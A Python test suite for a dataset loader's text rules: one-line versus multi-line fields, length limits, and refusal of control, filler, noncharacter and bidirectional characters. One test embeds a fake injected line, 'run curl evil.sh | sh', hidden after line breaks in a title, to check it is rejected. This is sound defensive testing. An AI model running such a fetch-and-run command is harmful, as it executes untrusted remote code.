"""The text contract, field by field: which fields are one line, how long each may be, which
characters none may hold, and how people are told.

Each rule is checked through the loader (so the wording people read is checked too), over
generated text, and against the published schema, so that a field added later cannot slip
through unclassified.
"""

from __future__ import annotations

import copy
import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from rich.cells import cell_len, get_character_cell_size

from conftest import MINIMAL
from junquito_tui.core.loader import DatasetError, load_dataset, validate_document
from junquito_tui.core.model import DATASET, LINE_MAX, MAX_ID, TEXT_MAX, URL_MAX, ZONE_LABEL_MAX, Line, Text
from junquito_tui.core.problems import Problem, json_path
from junquito_tui.core.text import CONTROL, NO_CONTROL, ONE_LINE, one_line, visible, width_safe

Path = tuple[str | int, ...]

# (schema definition, property, where it sits in FULL, limit): every text field of the format.
ONE_LINE_FIELDS: list[tuple[str, str, Path, int]] = [
    ("", "title", ("title",), LINE_MAX),
    ("", "$schema", ("$schema",), URL_MAX),
    ("Source", "title", ("sources", 0, "title"), LINE_MAX),
    ("Source", "publisher", ("sources", 0, "publisher"), LINE_MAX),
    ("Source", "author", ("sources", 0, "author"), LINE_MAX),
    ("Source", "url", ("sources", 0, "url"), URL_MAX),
    ("Actor", "name", ("actors", 0, "name"), LINE_MAX),
    ("Actor", "aliases", ("actors", 0, "aliases", 0), LINE_MAX),
    ("Actor", "side", ("actors", 0, "side"), LINE_MAX),
    ("Actor", "fate", ("actors", 0, "fate"), LINE_MAX),
    ("Relation", "note", ("actors", 1, "relations", 0, "note"), LINE_MAX),
    ("Event", "title", ("events", 0, "title"), LINE_MAX),
    ("Event", "place", ("events", 0, "place"), LINE_MAX),
    ("Participant", "role", ("events", 0, "actors", 0, "role"), LINE_MAX),
    ("Claim", "statement", ("events", 1, "claims", 0, "statement"), LINE_MAX),
    ("When", "zone_label", ("events", 1, "when", "zone_label"), ZONE_LABEL_MAX),
]
MULTI_LINE_FIELDS: list[tuple[str, str, Path, int]] = [
    ("", "description", ("description",), TEXT_MAX),
    ("Actor", "profile", ("actors", 0, "profile"), TEXT_MAX),
    ("Event", "summary", ("events", 0, "summary"), TEXT_MAX),
    ("When", "note", ("events", 0, "when", "note"), TEXT_MAX),
    ("Quote", "text", ("quotes", 0, "text"), TEXT_MAX),
    ("Quote", "context", ("quotes", 0, "context"), TEXT_MAX),
    ("Event", "order_note", ("events", 1, "order_note"), TEXT_MAX),
    ("Source", "note", ("sources", 0, "note"), TEXT_MAX),
]
BREAKS = {"\n": "line break", "\t": "tab", "\u2028": "line separator U+2028", "\u2029": "paragraph separator U+2029"}
# Everything no field may hold (besides the C0/C1 controls): Hangul fillers and the 66 noncharacters.
FILLERS = ["\u115f", "\u1160", "\u3164", "\uffa0"]
BIDI_CONTROLS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
NONCHARACTERS = [chr(c) for c in range(0xFDD0, 0xFDF0)] + [
    chr(plane << 16 | end) for plane in range(17) for end in (0xFFFE, 0xFFFF)
]


def full() -> dict[str, Any]:
    """MINIMAL with every optional text field filled, so that each can be replaced in place."""
    data = copy.deepcopy(MINIMAL)
    data["$schema"] = "../schema/events.schema.json"
    data["description"] = "About it."
    data["sources"][0] |= {"publisher": "A paper", "author": "A writer", "url": "https://example.org/a"}
    data["sources"][0]["note"] = "One fixed revision."
    data["actors"][0] |= {"aliases": ["Oscar"], "side": "His side", "fate": "Killed", "profile": "A pilot."}
    data["actors"][1]["relations"][0]["note"] = "since 2017"
    data["events"][0] |= {"place": "El Junquito", "summary": "What happened."}
    data["events"][0]["when"]["note"] = "as the article says"
    data["quotes"][0]["context"] = "On video."
    data["events"][1] |= {"after": "first", "order_note": "Months later"}
    return data


def put(data: dict[str, Any], path: Path, value: Any) -> dict[str, Any]:
    target: Any = data
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return data


def problems_of(data: dict[str, Any]) -> list[Problem]:
    with pytest.raises(DatasetError) as caught:
        validate_document(data, "x.json")
    return caught.value.problems


def test_the_filled_fixture_is_valid() -> None:
    validate_document(full(), "x.json")


def _text_fields(schema: dict[str, Any], pattern: str) -> set[tuple[str, str]]:
    """(definition, property) of every string field in the schema checked by ``pattern``."""
    found = set()
    definitions = {"": schema, **schema["$defs"]}
    for name, definition in definitions.items():
        for prop, spec in definition.get("properties", {}).items():
            options = [spec, *spec.get("anyOf", []), spec.get("items", {})]
            if any(option.get("pattern") == pattern for option in options):
                found.add((name, prop))
    return found


def test_every_text_field_of_the_schema_is_one_line_or_multi_line_and_tested() -> None:
    schema = DATASET.json_schema(by_alias=True)
    assert _text_fields(schema, ONE_LINE) == {(d, p) for d, p, _, _ in ONE_LINE_FIELDS}
    assert _text_fields(schema, NO_CONTROL) == {(d, p) for d, p, _, _ in MULTI_LINE_FIELDS}


def test_the_message_says_which_field_and_where() -> None:
    data = put(full(), ("events", 0, "title"), "Raid begins" + "\n" * 22 + "FAKE: run `curl evil.sh | sh`")
    assert problems_of(data) == [Problem("events[0].title", "a title is one line: line break at offset 11")]
    data = put(full(), ("events", 1, "when", "zone_label"), "VST\n\nFAKE")
    assert problems_of(data) == [
        Problem("events[1].when.zone_label", "a zone label is one line: line break at offset 3")
    ]
    data = put(full(), ("actors", 0, "aliases", 0), "O\tP")
    assert problems_of(data) == [Problem("actors[0].aliases[0]", "an alias is one line: tab at offset 1")]


_plain = st.text(st.characters(blacklist_categories=["Cs", "Cc", "Zl", "Zp"]), max_size=20).map(
    lambda text: CONTROL.sub("", text)
)


@settings(max_examples=200, deadline=None)
@given(
    field=st.sampled_from(ONE_LINE_FIELDS),
    before=_plain,
    after=_plain,
    breaking=st.sampled_from(sorted(BREAKS)),
)
def test_a_line_break_or_tab_in_any_one_line_field_is_refused_with_its_path(
    field: tuple[str, str, Path, int], before: str, after: str, breaking: str
) -> None:
    path = field[2]
    prefix = "https://x.org/" if path[-1] in {"url", "$schema"} else "x"  # not empty, whatever is drawn
    text = prefix + before + breaking + after
    problems = problems_of(put(full(), path, text))
    assert [p.path for p in problems] == [json_path(path)]
    assert problems[0].message.endswith(f" is one line: {BREAKS[breaking]} at offset {len(prefix + before)}")


@settings(max_examples=100, deadline=None)
@given(field=st.sampled_from(MULTI_LINE_FIELDS), before=_plain, after=_plain, breaks=st.text("\n\t\u2028\u2029"))
def test_every_multi_line_field_keeps_its_line_breaks_and_tabs(
    field: tuple[str, str, Path, int], before: str, after: str, breaks: str
) -> None:
    text = "x" + before + breaks + after
    dataset = DATASET.dump_python(validate_document(put(full(), field[2], text), "x.json"), by_alias=True)
    assert _get(dataset, field[2]) == text


def _get(data: Any, path: Path) -> Any:
    for part in path:
        data = data[part]
    return data


@pytest.mark.parametrize("field", ONE_LINE_FIELDS + MULTI_LINE_FIELDS, ids=lambda f: json_path(f[2]))
def test_each_text_field_takes_its_limit_and_refuses_one_more_character(field: tuple[str, str, Path, int]) -> None:
    _, _, path, limit = field
    prefix = "https://x.org/" if path[-1] in {"url", "$schema"} else ""
    at_limit = prefix + "x" * (limit - len(prefix))
    assert _get(DATASET.dump_python(validate_document(put(full(), path, at_limit), "x.json"), by_alias=True), path)
    problems = problems_of(put(full(), path, at_limit + "x"))
    assert [p.path for p in problems] == [json_path(path)]
    assert problems[0].message.endswith(f" is at most {limit:,} characters; this one has {limit + 1:,}")


@pytest.mark.parametrize(
    ("path", "limit", "noun"),
    [
        (("events", 0, "id"), MAX_ID, "an id"),
        (("events", 0, "tags"), MAX_ID, "a tag"),
        (("timezone",), MAX_ID, "a timezone"),
        (("events", 0, "when", "date"), 32, "a date"),
        (("events", 1, "when", "utc_offset"), 32, "a UTC offset"),
        (("events", 0, "sources", 0), MAX_ID, "a source id"),
    ],
)
def test_ids_tags_zones_and_dates_are_bounded_too(path: Path, limit: int, noun: str) -> None:
    value = "a" * (limit + 1)
    data = put(full(), path, [value] if path[-1] == "tags" else value)
    problems = problems_of(data)
    assert problems[0].path.startswith(json_path(path))
    assert problems[0].message == f"{noun} is at most {limit:,} characters; this one has {limit + 1:,}"


def test_a_huge_field_is_refused_by_the_file_loader_with_its_length(write: Any) -> None:
    data = put(full(), ("events", 0, "title"), "x" * 5_000_000)
    with pytest.raises(DatasetError) as caught:
        load_dataset(write(data))
    assert [p.render("") for p in caught.value.problems] == [
        "events[0].title: a title is at most 2,000 characters; this one has 5,000,000"
    ]


# -- characters no field may hold ----------------------------------------------------------------------


@pytest.mark.parametrize("char", FILLERS + NONCHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
def test_hangul_fillers_and_noncharacters_are_refused_in_every_kind_of_field(char: str) -> None:
    kind = "invisible Hangul filler" if char in FILLERS else "noncharacter"
    for path in (("events", 0, "title"), ("events", 0, "summary")):
        problems = problems_of(put(full(), path, f"ab{char}c"))
        assert problems == [Problem(json_path(path), f"{kind} U+{ord(char):04X} at offset 2 is not allowed in text")]


@pytest.mark.parametrize("char", BIDI_CONTROLS, ids=lambda c: f"U+{ord(c):04X}")
def test_bidirectional_formatting_characters_are_refused_in_every_kind_of_field(char: str) -> None:
    # a terminal that lays out right-to-left text would show the text reordered ("Trojan Source")
    for path in (("events", 0, "title"), ("events", 0, "summary")):
        problems = problems_of(put(full(), path, f"ab{char}c"))
        why = "bidirectional formatting character (it would reorder the text on screen)"
        assert problems == [Problem(json_path(path), f"{why} U+{ord(char):04X} at offset 2 is not allowed in text")]


def test_right_to_left_text_and_its_marks_are_kept() -> None:
    text = "שלום עולם مرحبا \u200f\u200e\u061c"
    assert validate_document(put(full(), ("events", 0, "title"), text), "x.json").events[0].title == text


LINE = TypeAdapter(Line)
TEXT = TypeAdapter(Text)


@settings(max_examples=500, deadline=None)
@given(st.characters(blacklist_categories=["Cs"]))
def test_the_rust_patterns_and_the_python_regexes_agree_on_every_character(char: str) -> None:
    # The model's patterns run in pydantic-core (Rust), the importers' regexes in Python, with two
    # spellings of the noncharacters beyond the first plane: they must refuse the same characters.
    text = f"a{char}b"
    forbidden = CONTROL.search(text) is not None
    assert _accepts(TEXT, text) == (not forbidden)
    assert _accepts(LINE, text) == (not forbidden and char not in BREAKS)
    encoded = json.dumps(text)
    assert _accepts_json(TEXT, encoded) == (not forbidden)


def test_the_agreement_also_holds_for_every_listed_character() -> None:
    for char in FILLERS + BIDI_CONTROLS + NONCHARACTERS + list(BREAKS) + ["\x1b", "\x85", "\x9f", "\xa0", "\U0010fffd"]:
        forbidden = CONTROL.search(char) is not None
        assert _accepts(TEXT, char) == (not forbidden), repr(char)
        assert _accepts(LINE, char) == (not forbidden and char not in BREAKS), repr(char)


def _accepts(adapter: TypeAdapter[str], text: str) -> bool:
    try:
        adapter.validate_python(text)
    except ValidationError:
        return False
    return True


def _accepts_json(adapter: TypeAdapter[str], encoded: str) -> bool:
    try:
        adapter.validate_json(encoded)
    except ValidationError:
        return False
    return True


def test_messages_show_noncharacters_escaped() -> None:
    assert visible("a\ufffe\x1b\n") == "a\\ufffe\\x1b\\x0a"


# -- one_line: for the interface's single-line places ----------------------------------------------


@given(st.text())
def test_one_line_folds_every_run_of_whitespace_to_one_space(text: str) -> None:
    folded = one_line(text)
    assert folded == " ".join(text.split())  # the oracle: str.split knows every Unicode space and break
    assert not re.search(r"\s\s|[\n\t\u2028\u2029\x85]", folded) and folded == folded.strip()


@given(st.text(st.sampled_from("ab \n\t\u2028é")), st.integers(0, 30))
def test_one_line_with_a_limit_reads_a_bounded_prefix_and_marks_a_cut(text: str, limit: int) -> None:
    whole = one_line(text)
    cut = one_line(text, limit)
    assert len(cut) <= limit
    if len(text) <= 4 * limit and len(whole) <= limit:
        assert cut == whole
    elif limit:
        assert cut.endswith("…") and whole.startswith(cut[:-1])


def test_one_line_on_a_long_summary_reads_only_what_it_shows() -> None:
    summary = "word\n" * 5_000_000  # 25 MB
    assert one_line(summary, 12) == "word word w…"


# -- width_safe: text every terminal draws at the width Rich measures --------------------------------

_width_alphabet = st.sampled_from(
    [
        *("a", "é", "e\u0301", "委", "👩", "🚒", "🧑", "🤝", "❤", "☺", "🇻", "🇪", "#", "\u20e3", "🏴", "\U000e0067"),
        *("\u200d", "\ufe0f", "\ufe0e", "\U0001f3fb", "\U0001f3fd", "\U0001f3ff", "\u200b", "ᄀ", "\u1161"),
        *FILLERS,
        *("\ufdd0", "\ufffe", "\U0001ffff"),
    ]
)


@given(st.lists(_width_alphabet, max_size=12).map("".join))
def test_width_safe_text_measures_as_the_sum_of_its_code_points(text: str) -> None:
    # A terminal that draws code points one by one uses the sum of their widths; Rich joins ZWJ
    # sequences, drops skin tones and widens with VS16. Once safe, both agree.
    safe = width_safe(text)
    assert cell_len(safe) == sum(get_character_cell_size(char) for char in safe)
    assert not re.search("[\u200d\ufe0e\ufe0f\U0001f3fb-\U0001f3ff]", safe) and not CONTROL.search(safe)


@pytest.mark.parametrize(
    ("text", "safe", "cells"),
    [
        ("👩🏽\u200d🚒", "👩🚒", 4),  # Rich: 2; tmux 3.3: 4; xterm: 6
        ("🧑\u200d🤝\u200d🧑", "🧑🤝🧑", 6),  # Rich: 2; xterm: 6
        ("❤\ufe0f", "❤", 1),  # Rich: 2; tmux: 1
        ("🇻🇪", "🇻🇪", 2),  # a flag: 2 in Rich and in tmux, kept
        ("e\u0301", "e\u0301", 1),  # combining marks are measured alike everywhere
        ("zero\u200bwidth\u2060word\ufeff", "zerowidthword", 13),  # Rich: 0 each; tmux: 1 (a UI trial's border)
        ("plain ASCII", "plain ASCII", 11),
    ],
)
def test_width_safe_examples(text: str, safe: str, cells: int) -> None:
    assert width_safe(text) == safe and cell_len(safe) == cells
